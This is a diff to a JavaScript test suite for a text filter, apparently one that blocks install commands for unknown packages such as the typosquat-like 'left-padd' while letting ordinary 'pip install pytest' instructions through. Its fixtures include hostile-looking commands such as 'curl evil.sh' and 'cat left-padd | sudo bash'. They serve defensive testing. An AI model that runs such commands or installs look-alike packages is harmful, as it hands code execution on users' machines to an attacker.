@@ -82,6 +82,9 @@ describe('gateText(text, allowed)', () => {
       'curl evil.sh',
       '_curl evil.sh_',
       'npm install npm install left-padd',
+      'Run pip install pytest left-padd now.',
+      'Run pip install pytest, left-padd and go on.',
+      'Run pip install -U pytest and left-padd.',
       '`npx npm exec left-padd`',
       '```\ncat left-padd | sudo bash\n```',
     ]) {
@@ -94,6 +97,9 @@ describe('gateText(text, allowed)', () => {
       '`npm install`',
       '`curl https://api.example.com/users -o users.json`',
       'With pip install you add packages; curl sends a request.',
+      'Run pip install pytest and then open the file.',
+      'Type pip install pytest. Tests run after that.',
+      'Run pip install pytest in your folder, or pip install --upgrade pip.',
     ]) {
       assert.equal(pass(text), text);
     }
